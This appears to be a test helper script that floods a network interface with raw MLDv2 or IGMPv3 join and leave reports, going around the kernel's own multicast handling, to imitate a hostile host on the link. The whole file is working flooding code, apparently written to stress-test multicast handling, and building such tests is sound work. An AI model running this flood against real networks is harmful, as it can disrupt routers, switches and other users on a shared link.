#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Joins and leaves multicast groups out of an interface as fast as it takes them, past the kernel's MLD and IGMP,
until it is ended: what a hostile host on a link might.

	mld_flood.py INTERFACE SOURCE GROUPS RECORDS

SOURCE is an address of the interface, IPv6 (MLDv2, groups from ff15::bad:0) or IPv4 (IGMPv3, from 239.66.0.0);
GROUPS of them are joined and left in turns, RECORDS in each report. Prints how many reports it sent.
"""
import errno
import ipaddress
import itertools
import signal
import socket
import struct
import sys
import time

ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86dd
TO_IN, TO_EX = 3, 4
MLD2_REPORT, IGMP3_REPORT = 143, 0x22


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def records(kind, base, first, number, groups):
    return b"".join(struct.pack("!BBH", kind, 0, 0) + (base + (first + i) % groups).packed
                    for i in range(number))


def mld(source, body):
    destination = ipaddress.ip_address("ff02::16").packed
    body = struct.pack("!BBHHH", MLD2_REPORT, 0, 0, 0, len(body) // 20) + body
    total = checksum(source + destination + struct.pack("!II", len(body), 58) + body)
    body = body[:2] + struct.pack("!H", total) + body[4:]
    alert = bytes([58, 0, 5, 2, 0, 0, 1, 0])  # hop-by-hop options: router alert, PadN
    return struct.pack("!IHBB", 6 << 28, len(alert) + len(body), 0, 1) + source + destination + alert + body


def igmp(source, body):
    body = struct.pack("!BBHHH", IGMP3_REPORT, 0, 0, 0, len(body) // 8) + body
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    header = struct.pack("!BBHHHBBH", 0x46, 0xc0, 24 + len(body), 0, 0, 1, 2, 0)
    header += source + ipaddress.ip_address("224.0.0.22").packed + bytes([0x94, 4, 0, 0])
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body


def main(interface, source, groups, number):
    source = ipaddress.ip_address(source)
    six = source.version == 6
    base = ipaddress.ip_address("ff15::bad:0" if six else "239.66.0.0")
    packets = [(mld if six else igmp)(source.packed, records(kind, base, first, number, groups))
               for first in range(0, groups, number) for kind in (TO_EX, TO_IN)]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    to = (interface, ETH_P_IPV6 if six else ETH_P_IP)
    sent, ended = 0, []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    for packet in itertools.cycle(packets):
        if ended:
            break
        try:
            sock.sendto(packet, to)
            sent += 1
        except OSError as error:
            if error.errno != errno.ENOBUFS:
                raise
            time.sleep(0.0001)  # the interface's queue is full
    print(sent, flush=True)


main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
